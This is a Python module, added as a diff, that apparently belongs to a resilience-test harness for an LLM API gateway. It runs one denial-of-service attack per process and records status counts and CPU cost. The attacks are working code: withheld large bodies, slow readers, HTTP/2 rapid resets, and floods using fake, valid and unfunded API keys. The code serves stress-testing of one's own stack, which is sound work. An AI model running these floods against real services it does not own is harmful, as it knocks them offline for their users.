@@ -1,0 +1,223 @@
+"""`python -m attacks.attacker`: one attack, in a process of its own, until its time is over.
+
+A process of its own keeps the attack's work out of the bystander's event loop. The target comes as
+JSON on standard input, because it has credentials; what the attack spent leaves as JSON.
+"""
+
+import asyncio
+import contextlib
+import dataclasses
+import itertools
+import json
+import resource
+import sys
+import time
+from collections.abc import Awaitable, Callable, Mapping
+from dataclasses import dataclass, field
+from typing import Final
+
+import aiohttp
+import h2.config
+import h2.connection
+import h2.exceptions
+
+from attacks.shapes import SHAPES, filled
+
+CHAT: Final = "/v1/chat/completions"
+FLOOD_CONNECTIONS: Final = 48
+BODY_CONNECTIONS: Final = 3
+WITHHOLDING_CONNECTIONS: Final = 200
+DECLARED_BYTES: Final = 20 * 2**20
+PIECE: Final = b" " * 2**20
+H2_RESETS_AT_ONCE: Final = 50
+PAUSE_S: Final = 0.02
+_HEADERS: Final = "host: attacks\r\ncontent-type: application/json\r\n"
+
+
+@dataclass(frozen=True, slots=True)
+class Target:
+    """A stack, and the credentials that the attacker has."""
+
+    host: str
+    port: int
+    model: str
+    seconds: float
+    key: str = field(repr=False)
+    poor_key: str = field(repr=False)
+
+
+@dataclass(slots=True)
+class Spent:
+    """The requests that an attack sent, by status (0: no answer), and its own CPU seconds."""
+
+    statuses: dict[int, int] = field(default_factory=dict)
+    connections: int = 0
+    cpu_s: float = 0.0
+
+    def note(self, status: int) -> None:
+        """Count one answer."""
+        self.statuses[status] = self.statuses.get(status, 0) + 1
+
+
+Run = Callable[[Target, Spent], Awaitable[None]]
+
+
+def small_body(model: str) -> bytes:
+    """Return a request as most are."""
+    message = {"role": "user", "content": "Say good day, please."}
+    return json.dumps({"model": model, "max_tokens": 8, "messages": [message]}).encode()
+
+
+async def _ask_without_end(
+    target: Target, spent: Spent, path: str, headers: Mapping[str, str], body: bytes | None
+) -> None:
+    url = f"http://{target.host}:{target.port}{path}"
+    # Abandoned connections are part of most attacks; the pool must not wait for them.
+    timeout = aiohttp.ClientTimeout(total=10)
+    async with aiohttp.ClientSession(timeout=timeout) as session:
+        while True:
+            try:
+                method = "GET" if body is None else "POST"
+                async with session.request(method, url, data=body, headers=headers) as reply:
+                    await reply.read()
+                    spent.note(reply.status)
+            except (aiohttp.ClientError, TimeoutError, OSError):
+                spent.note(0)
+                await asyncio.sleep(PAUSE_S)
+
+
+def _flood(path: str, connections: int, key: Callable[[Target], str], is_post: bool) -> Run:
+    async def run(target: Target, spent: Spent) -> None:
+        spent.connections = connections
+        headers = {"authorization": f"Bearer {key(target)}", "content-type": "application/json"}
+        body = small_body(target.model) if is_post else None
+        await asyncio.gather(
+            *(_ask_without_end(target, spent, path, headers, body) for _ in range(connections))
+        )
+
+    return run
+
+
+def _flood_of(shape: str) -> Run:
+    async def run(target: Target, spent: Spent) -> None:
+        spent.connections = BODY_CONNECTIONS
+        body = filled(SHAPES[shape], target.model)
+        headers = {"authorization": f"Bearer {target.key}", "content-type": "application/json"}
+        await asyncio.gather(
+            *(_ask_without_end(target, spent, CHAT, headers, body) for _ in range(BODY_CONNECTIONS))
+        )
+
+    return run
+
+
+async def _withhold(target: Target, spent: Spent) -> None:
+    """Send large bodies without a credential, all but the last byte."""
+    head = f"POST {CHAT} HTTP/1.1\r\n{_HEADERS}content-length: {DECLARED_BYTES}\r\n\r\n".encode()
+
+    async def one() -> None:
+        while True:
+            with contextlib.suppress(OSError, asyncio.IncompleteReadError):
+                reader, writer = await asyncio.open_connection(target.host, target.port)
+                spent.connections += 1
+                writer.write(head)
+                sending = asyncio.create_task(_send_all_but_one(writer))
+                try:
+                    # An answer ends it; until then the connection is held.
+                    answer = await reader.readline()
+                    spent.note(int(answer.split()[1]) if answer.startswith(b"HTTP") else 0)
+                finally:
+                    sending.cancel()
+                    writer.close()
+            await asyncio.sleep(PAUSE_S)
+
+    await asyncio.gather(*(one() for _ in range(WITHHOLDING_CONNECTIONS)))
+
+
+async def _send_all_but_one(writer: asyncio.StreamWriter) -> None:
+    with contextlib.suppress(OSError):
+        for _ in range(DECLARED_BYTES // len(PIECE) - 1):
+            writer.write(PIECE)
+            await writer.drain()
+        writer.write(PIECE[1:])
+
+
+async def _read_slowly(target: Target, spent: Spent) -> None:
+    """Ask for streams, and never read a byte of the answers."""
+    body = json.dumps(json.loads(small_body(target.model)) | {"stream": True, "max_tokens": 2_000})
+    request = (
+        f"POST {CHAT} HTTP/1.1\r\n{_HEADERS}authorization: Bearer {target.key}\r\n"
+        f"content-length: {len(body)}\r\n\r\n{body}"
+    ).encode()
+    held = []
+    for _ in range(WITHHOLDING_CONNECTIONS):
+        with contextlib.suppress(OSError):
+            _, writer = await asyncio.open_connection(target.host, target.port, limit=1)
+            writer.write(request)
+            held.append(writer)
+            spent.connections += 1
+    await asyncio.Event().wait()
+
+
+async def _reset_rapidly(target: Target, spent: Spent) -> None:
+    """Open HTTP/2 streams and reset each at once."""
+    headers = [
+        (":method", "POST"),
+        (":scheme", "http"),
+        (":authority", "attacks"),
+        (":path", CHAT),
+        ("content-type", "application/json"),
+    ]
+    while True:
+        with contextlib.suppress(OSError, h2.exceptions.ProtocolError):
+            reader, writer = await asyncio.open_connection(target.host, target.port)
+            spent.connections += 1
+            peer = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
+            peer.initiate_connection()
+            for number in itertools.count():
+                stream = peer.get_next_available_stream_id()
+                peer.send_headers(stream, headers)
+                peer.reset_stream(stream)
+                spent.note(0)
+                if number % H2_RESETS_AT_ONCE == 0:
+                    writer.write(peer.data_to_send())
+                    await writer.drain()
+                    if reader.at_eof() or writer.is_closing():
+                        break
+                    await asyncio.sleep(0)
+        await asyncio.sleep(PAUSE_S)
+
+
+RUNS: Final[Mapping[str, Run]] = {
+    "withheld bodies": _withhold,
+    "slow readers": _read_slowly,
+    "rapid resets": _reset_rapidly,
+    "made-up keys": _flood(CHAT, FLOOD_CONNECTIONS, lambda target: "sk-tk-made-up", True),
+    "flood of one account": _flood(CHAT, FLOOD_CONNECTIONS, lambda target: target.key, True),
+    "flood without credit": _flood(CHAT, FLOOD_CONNECTIONS, lambda target: target.poor_key, True),
+    "flood of the API": _flood("/api/v1/me", FLOOD_CONNECTIONS, lambda target: "none", False),
+    **{f"bodies: {shape}": _flood_of(shape) for shape in SHAPES},
+}
+
+
+async def attack(name: str, target: Target) -> Spent:
+    """Run an attack for its time; return what it spent."""
+    spent = Spent()
+    with contextlib.suppress(TimeoutError):
+        async with asyncio.timeout(target.seconds):
+            await RUNS[name](target, spent)
+    usage = resource.getrusage(resource.RUSAGE_SELF)
+    spent.cpu_s = round(usage.ru_utime + usage.ru_stime, 2)
+    return spent
+
+
+def main() -> None:
+    """Read the target, attack, and print what it took."""
+    request = json.load(sys.stdin)
+    began_s = time.monotonic()
+    spent = asyncio.run(attack(request["attack"], Target(**request["target"])))
+    seconds = round(time.monotonic() - began_s, 1)
+    json.dump(dataclasses.asdict(spent) | {"seconds": seconds}, sys.stdout)
+
+
+if __name__ == "__main__":
+    main()
